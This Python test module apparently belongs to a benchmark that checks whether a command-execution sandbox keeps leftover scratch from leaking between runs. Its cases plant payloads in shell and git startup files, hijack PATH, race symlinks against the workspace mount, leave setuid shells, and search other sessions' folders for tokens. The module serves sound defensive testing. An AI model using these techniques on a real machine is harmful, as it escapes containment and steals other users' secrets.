"""Scratch that stays: what a command leaves in $HOME, /tmp and caches is there when we work for the next one."""

import os
import shutil
import stat
import tempfile
import time
from pathlib import Path

from bench.escapes.host.place import Place, changed_environment
from handtools import Call
from handtools.host.commands.session_scratch import KEPT_SCRATCH_SECONDS

_SETTINGS = (
    ".bashrc", ".profile", ".bash_profile", ".bash_login", ".bash_env", ".zshenv", ".zshrc", ".inputrc",
    ".config/git/config", ".config/fish/config.fish", ".local/bin/git", ".local/bin/rg", ".local/bin/bwrap",
    ".local/bin/python3", ".local/lib/python3.11/site-packages/usercustomize.py",
)  # fmt: skip
_SWAP_LOOP = """
while :; do
    mv -T /tmp/{name} /tmp/aside; ln -sfnT {target} /tmp/{name}; mv -T --exchange /tmp/{name} /tmp/aside
    rm -f /tmp/{name}
done 2>/dev/null
"""
_CHAIN = """
import os
name = "d" * {length}
for _ in range({levels}):
    os.mkdir(name); os.chdir(name)
"""


async def settings_for_the_next_program(place: Place) -> None:
    """Files that shells, git and Python run at their start, and programs of well-known names, are left in $HOME."""
    for name in _SETTINGS:
        await place.bash(
            f"mkdir -p ~/{name}; rmdir ~/{name}; echo '{place.payload}' > ~/{name}; chmod +x ~/{name}"
        )
    await place.bash(
        f"printf '[core]\\n fsmonitor = {place.payload}\\n pager = {place.payload}\\n' > ~/.gitconfig"
    )
    place.open()
    await place.bash("git status; rg x; python3 -c 1; true")
    await place.call("grep", pattern="one")
    await place.call("find", pattern="*.txt")


async def link_at_the_mount_of_the_workspace(place: Place) -> None:
    """The folder of /tmp in which the next command's workspace is mounted is replaced by a link that leads out."""
    name = place.base.parts[2]
    for target in (f"/oldroot{place.outside}", str(place.outside), f"../oldroot{place.outside}"):
        await place.bash(
            f"rm -rf /tmp/{name}; mv -T /tmp/{name} /tmp/aside; ln -sfnT {target} /tmp/{name}; true"
        )
        await place.bash("mkdir -p made; echo x > made/file")


async def link_at_the_mount_in_a_race(place: Place) -> None:
    """A job goes on replacing that folder while other commands are set up."""
    loop = _SWAP_LOOP.format(name=place.base.parts[2], target=f"/oldroot{place.outside}")
    await place.bash(loop, background=True)
    for _ in range(8):
        await place.bash("mkdir -p made; echo x > made/file")


async def link_where_a_program_will_be_shown(place: Place) -> None:
    """A link that leads out is left in /tmp under the name of a folder that is on PATH later."""
    tools = Path(tempfile.mkdtemp(prefix="tools-", dir="/tmp"))
    try:
        (tools / "bin").mkdir()
        (tools / "bin" / "tool").write_text("#!/bin/sh\n")
        await place.bash(f"ln -s /oldroot{place.outside} /tmp/{tools.name}")
        with changed_environment(PATH=f"{tools}/bin:{os.environ['PATH']}"):
            place.open()
            await place.bash(f"echo x > /tmp/{tools.name}/bin/file; echo x > /tmp/{tools.name}/made; true")
            await place.bash("true")
    finally:
        shutil.rmtree(tools)


async def links_for_whoever_deletes(place: Place) -> None:
    """Links to folders of the user are left where old scratch is deleted, also in place of folders."""
    await place.bash(
        f"for d in ~ /tmp ~/.cache/; do cd $d; ln -s {place.outside} out; ln -s {place.home} home; "
        f"mkdir -p a/b; rm -r a/b; ln -s {place.outside} a/b; chmod 0 a; done; true"
    )
    await _grow_old(place)


async def tree_too_deep_to_delete(place: Place) -> None:
    """A chain of folders that is longer than any path is left where old scratch is deleted."""
    for length, levels in ((200, 20_000), (1, 60_000)):
        await place.bash(f"cd /tmp && python3 -c '{_CHAIN.format(length=length, levels=levels)}'")
    await _grow_old(place)


async def pipes_for_whoever_reads(place: Place) -> None:
    """Pipes lie where files are counted, and under the names of files of ours."""
    await place.bash(
        "cd ~; mkfifo lock usage reserved .cache2; cd /tmp; mkfifo lock usage reserved; rm ~/.cache"
    )
    await _grow_old(place)


async def scratch_of_another_session(place: Place) -> None:
    """A session looks for what another one of the same workspace has left."""
    await place.call(Call(tool="bash", args={"command": "true"}, session="victim"))
    for room in _rooms(place):
        for part in ("home", "tmp"):
            (room / part / "token").write_text(place.secrets["OTHER"])
    await place.call(Call(tool="bash", args={"command": _search(place)}, session="thief"))


async def caches_of_another_owner(place: Place) -> None:
    """An owner looks for what another owner of the same workspace has in package caches."""
    await place.call(Call(tool="bash", args={"command": "true"}, owner="victim"))
    for token in place.state.glob("*/scratch/caches/*/files/cache"):
        (token / "token").write_text(place.secrets["OTHER"])
    await place.call(Call(tool="bash", args={"command": _search(place)}, owner="thief"))


async def elevated_program(place: Place) -> str | None:
    """A program that runs as its owner is left in scratch, for another user of the machine."""
    await place.bash("cp /bin/sh ~/sh; cp /bin/sh /tmp/sh; chmod 6755 ~/sh /tmp/sh; chmod 777 ~ /tmp")
    for room in _rooms(place):
        for program in (room / "home" / "sh", room / "tmp" / "sh"):
            above = [folder.stat().st_mode & stat.S_IXOTH for folder in program.parents]
            if program.stat().st_mode & stat.S_ISUID and all(above):
                return "somebody else can run it"
    return None


async def link_on_path_that_leads_through_the_workspace(place: Place) -> None:
    """The user has a link to a program of the workspace, and the workspace makes that a link to a secret."""
    place.link("tool", place.outside / "secret.txt")
    programs = place.home / ".local" / "bin"
    programs.mkdir(parents=True)
    (programs / "tool").symlink_to(place.workspace / "tool")
    with changed_environment(PATH=f"{programs}:{os.environ['PATH']}"):
        await place.bash(f"cat tool {programs}/tool {place.outside}/secret.txt; tool; true")


async def environment_that_names_a_folder(place: Place) -> None:
    """A virtual environment of the workspace, first on PATH, names a folder of secrets as its interpreter's."""
    place.program(".venv/bin/python")
    place.put(".venv/pyvenv.cfg", f"home = {place.outside}\n")
    with changed_environment(PATH=f"{place.workspace}/.venv/bin:{os.environ['PATH']}"):
        await place.bash(f"cat {place.outside}/secret.txt; ls {place.outside}")


async def _grow_old(place: Place) -> None:
    """Let the scratch be as old as what is deleted, and have a new process of ours delete it."""
    ago = time.time() - KEPT_SCRATCH_SECONDS - 60
    place.close()
    for room in _rooms(place):
        os.utime(room, (ago, ago))
    place.open()
    await place.call(Call(tool="bash", args={"command": "true"}, session="next"))
    await place.until(lambda: not any(room.name.startswith(".gone") for room in _rooms(place)), 60)


def _rooms(place: Place) -> list[Path]:
    return list(place.state.glob("*/scratch/sessions/*"))


def _search(place: Place) -> str:
    return (
        f"cat /home/*/token /tmp/token ~/.cache/token {place.state}/*/scratch/*/*/*/token "
        f"{place.state}/*/scratch/*/*/*/*/token /mnt/*/*/*/token /proc/*/root/tmp/token; "
        "grep -rs CANARY /home /tmp /mnt /var /srv /run; true"
    )
